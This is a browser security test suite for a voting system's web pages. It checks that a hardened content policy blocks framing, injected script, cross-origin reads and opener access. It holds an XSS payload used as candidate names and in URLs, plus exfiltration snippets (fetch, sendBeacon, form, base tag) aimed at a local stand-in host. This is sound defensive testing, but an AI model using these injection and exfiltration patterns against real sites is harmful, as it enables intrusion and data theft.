"""A20: script in election texts, foreign origins, framing: what the ballot box's pages let nobody do.

In a browser, against the pages as they are served: the policy that comes with them is what is tested, so nothing of it
is switched off.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import pytest
import voting_page
from browser import showing
from checking_page import fingerprint_of, fragment, opening
from served import BallotBoxUnderTest, listening
from simulator import Simulator
from static_files import serving as serving_folder

from vemre.election.choice import Marks, WriteIn
from vemre.records import setup_bodies as s

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

PAGES: Final = ("/", "/acceso", "/recibo", "/reto", "/practica")
HOSTILE: Final = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"


@dataclass
class Polls:
    """A ballot box at `url`, and the address of somebody else."""

    box: BallotBoxUnderTest
    url: str
    elsewhere: str
    folder: Path


@pytest.fixture(scope="module")
def polls(pages: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Polls]:
    parties = [s.Option(name, HOSTILE, f"{HOSTILE}{name}") for name in ("pan", "pri", "pvem", "pt", "morena", "mc")]
    sim: Simulator = voting_page.simulated(voting_page.offer(parties), urns=("urna-17",) * 2)[0]
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "pixel.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    (folder / "script.js").write_text("document.title = 'taken'")
    with (
        BallotBoxUnderTest(sim, tmp_path_factory.mktemp("box"), build=pages).running() as box,
        listening(box.station.app) as url,
        serving_folder(folder) as elsewhere,
    ):
        yield Polls(box, url, elsewhere, folder)


def settled(page: Page) -> None:
    """The page's script has drawn its first screen."""
    page.wait_for_selector("#heading")


@pytest.mark.parametrize("path", PAGES)
def test_no_site_frames_a_page(browser: Browser, polls: Polls, path: str) -> None:
    frame = polls.folder / "frame.html"
    frame.write_text(f'<!doctype html><title>bait</title><iframe src="{polls.url}{path}"></iframe>')
    with showing(browser, errors=True) as page:
        told: list[str] = []
        page.on("console", lambda line: told.append(line.text))
        page.goto(f"{polls.elsewhere}/frame.html")
        page.wait_for_function("() => frames.length === 1")
        assert [one.url for one in page.frames if one.url.startswith(polls.url)] == []
        assert any("frame" in line for line in told), told


INSIDE: Final = {
    "markup": "document.body.innerHTML = hostile",
    "written": "document.write(hostile)",
    "inserted": "document.body.insertAdjacentHTML('beforeend', hostile)",
    "script text": "const s = document.createElement('script'); s.text = 'x'; document.body.append(s)",
    "script address": "document.createElement('script').src = elsewhere + '/script.js'",
    "worker": "new Worker(elsewhere + '/script.js')",
    "eval": "setTimeout('document.title = 1')",
    "policy": "trustedTypes.createPolicy('mine', {})",
}
"""What a script that got into the page might do to it; each throws."""
OUTSIDE: Final = {
    "fetch": "fetch(elsewhere + '/pixel.svg').then(() => done('done'), () => done('refused'))",
    "beacon": "navigator.sendBeacon(elsewhere + '/beacon', 'x'); done('refused')",
    "picture": """
        const picture = new Image();
        picture.onload = () => done('done');
        picture.onerror = () => done('refused');
        picture.src = elsewhere + '/pixel.svg';""",
    "form": """
        addEventListener('securitypolicyviolation', () => done('refused'));
        const form = document.createElement('form');
        form.action = elsewhere + '/form';
        document.body.append(form);
        form.submit();""",
    "base": """
        const base = document.createElement('base');
        base.href = elsewhere;
        document.head.append(base);
        done(document.baseURI.startsWith(elsewhere) ? 'done' : 'refused');""",
}
"""How it might tell others what it saw."""


@pytest.mark.parametrize("path", PAGES)
def test_what_gets_into_a_page_cannot_run_or_ask_elsewhere(browser: Browser, polls: Polls, path: str) -> None:
    """The attacker has found a way to put something into the page; it comes to nothing."""
    with showing(browser, errors=True) as page:
        told: list[tuple[str, str | None]] = []
        page.on("requestfailed", lambda request: told.append((request.url, request.failure)))
        page.on("requestfinished", lambda request: told.append((request.url, None)))
        page.goto(polls.url + path)
        settled(page)
        for name, act in INSIDE.items():
            guarded = f"try {{ {act}; return 'done' }} catch (error) {{ return error.name }}"
            tried = f"([hostile, elsewhere]) => {{ {guarded} }}"
            assert page.evaluate(tried, [HOSTILE, polls.elsewhere]) in ("TypeError", "EvalError"), name
        for name, act in OUTSIDE.items():
            asked = f"elsewhere => new Promise(done => {{ {act} }})"
            assert page.evaluate(asked, polls.elsewhere) == "refused", name
        assert [failure for address, failure in told if address.startswith(polls.elsewhere) and failure != "csp"] == []
        assert page.title() != "taken"
        assert page.url.startswith(polls.url)


def test_other_sites_read_nothing_but_the_public_log(browser: Browser, polls: Polls) -> None:
    (polls.folder / "reader.html").write_text("<!doctype html><title>reader</title>")
    read = "address => fetch(address, {credentials: 'include'}).then(() => 'read', () => 'refused')"
    with showing(browser, errors=True) as page:
        page.goto(f"{polls.elsewhere}/reader.html")
        for path in (*PAGES, "/policy.json", "/assets.json", "/mirror/tally/cosigned", "/session"):
            assert page.evaluate(read, polls.url + path) == "refused", path
        public = "address => fetch(address).then(answer => answer.ok ? 'read' : 'refused', () => 'refused')"
        assert page.evaluate(public, f"{polls.url}/log/checkpoint") == "read"


def test_a_window_that_opens_a_page_has_no_hold_of_it(browser: Browser, polls: Polls) -> None:
    (polls.folder / "opener.html").write_text("<!doctype html><title>opener</title><button>go</button>")
    with showing(browser) as page:
        page.goto(f"{polls.elsewhere}/opener.html")
        with page.context.expect_page() as opened:
            page.evaluate("address => { window.taken = window.open(address) }", f"{polls.url}/recibo")
        settled(opened.value)
        assert opened.value.evaluate("() => window.opener === null")
        assert page.evaluate("() => window.taken.closed"), "its window is another one"


def test_hostile_names_of_candidates_are_texts(browser: Browser, polls: Polls) -> None:
    sim = polls.box.sim
    for choice, expected in ((Marks((0, 1)), HOSTILE), (WriteIn("<b>Juárez</b>"), "<b>Juárez</b>")):
        found = opening(sim, sim.voters[0], (choice,))
        with showing(browser) as page:
            told: list[Any] = []
            page.on("dialog", lambda dialog, seen=told: (seen.append(dialog.message), dialog.dismiss()))
            page.goto(f"{polls.url}/reto#{fragment(found.encode(sim.offer))}")
            page.fill("#fingerprint", fingerprint_of(found))
            page.click("#check")
            page.wait_for_selector("#yes")
            shown = page.inner_text("main")
            assert expected in shown or "Xóchitl" in shown
            assert page.evaluate("() => document.querySelectorAll('main img, main script, main b').length") == 0
            assert "taken" not in page.title()
            assert told == []


def test_an_address_brings_no_markup_along(browser: Browser, polls: Polls) -> None:
    with showing(browser) as page:
        for path in PAGES:
            for place in (f"#{HOSTILE}", f"?x={HOSTILE}#recibo.{HOSTILE}"):
                page.goto("about:blank")
                page.goto(polls.url + path + place)
                settled(page)
                assert page.evaluate("() => document.querySelectorAll('main script, main img[src=x]').length") == 0
                assert "taken" not in page.title()
